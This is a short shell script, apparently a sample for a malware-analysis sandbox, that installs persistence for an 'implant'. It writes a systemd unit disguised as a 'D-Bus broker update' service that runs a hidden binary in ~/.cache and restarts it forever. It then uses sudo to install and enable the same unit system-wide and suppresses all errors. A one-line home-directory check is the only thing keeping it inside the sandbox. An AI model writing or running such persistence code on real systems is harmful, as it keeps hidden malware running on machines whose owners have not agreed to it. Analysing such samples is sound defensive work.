#!/bin/sh
# SPDX-License-Identifier: MIT
# A systemd service that keeps the implant running: a user unit enabled
# with systemctl --user, and the same unit offered to the system through
# sudo.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
unit=dbus-broker-update.service
mkdir -p "$HOME/.config/systemd/user"
cat > "$HOME/.config/systemd/user/$unit" <<UNIT
[Unit]
Description=D-Bus broker update
[Service]
ExecStart=$HOME/.cache/.dbus-upd
Restart=always
[Install]
WantedBy=default.target
UNIT
systemctl --user daemon-reload 2>/dev/null
systemctl --user enable --now "$unit" 2>/dev/null
sudo cp "$HOME/.config/systemd/user/$unit" /etc/systemd/system/ 2>/dev/null
sudo systemctl enable --now "$unit" 2>/dev/null
exit 0
